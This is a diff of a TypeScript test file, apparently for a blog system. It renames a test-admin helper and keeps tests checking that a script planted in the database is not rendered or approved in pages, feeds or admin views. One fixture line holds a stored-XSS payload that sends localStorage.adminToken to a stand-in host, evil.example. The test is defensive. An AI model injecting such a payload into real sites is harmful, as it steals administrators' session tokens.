@@ -1,6 +1,6 @@
 import { createHash } from 'node:crypto';
 import { expect, test } from 'vitest';
-import { createTestOffice } from '../../../tests/support/create-test-admin.ts';
+import { createTestAdmin } from '../../../tests/support/create-test-admin.ts';
 
 const slug = 'keyword-research-in-hinglish';
 const script = 'fetch("https://evil.example/?" + localStorage.adminToken)';
@@ -11,15 +11,15 @@ const hashOf = (text: string) => createHash('sha256').update(text).digest('base6
 
 /** A site into whose database somebody wrote, past the program. */
 async function poisonedSite() {
-  const office = await createTestOffice();
-  const { id } = await office.database.db
+  const admin = await createTestAdmin();
+  const { id } = await admin.database.db
     .updateTable('posts')
     .set({ content: poison })
     .where('slug', '=', slug)
     .returning('id')
     .executeTakeFirstOrThrow();
-  const { url: preview } = (await office.call('GET', `/api/blogs/${id}/preview-link`)).json();
-  return { ...office, id, preview };
+  const { url: preview } = (await admin.call('GET', `/api/blogs/${id}/preview-link`)).json();
+  return { ...admin, id, preview };
 }
 
 test('a script in the database is neither shown nor approved', async () => {
@@ -51,7 +51,7 @@ test('of a page, exactly our own scripts and styles are approved', async () => {
   }
 });
 
-test('feeds and the back-office get the text without it as well', async () => {
+test('feeds and the admin get the text without it as well', async () => {
   const { http, call, id } = await poisonedSite();
   for (const url of ['/blog/feed.xml', '/blog/atom.xml', '/blog/feed.json']) {
     const { body } = await http.inject(url);
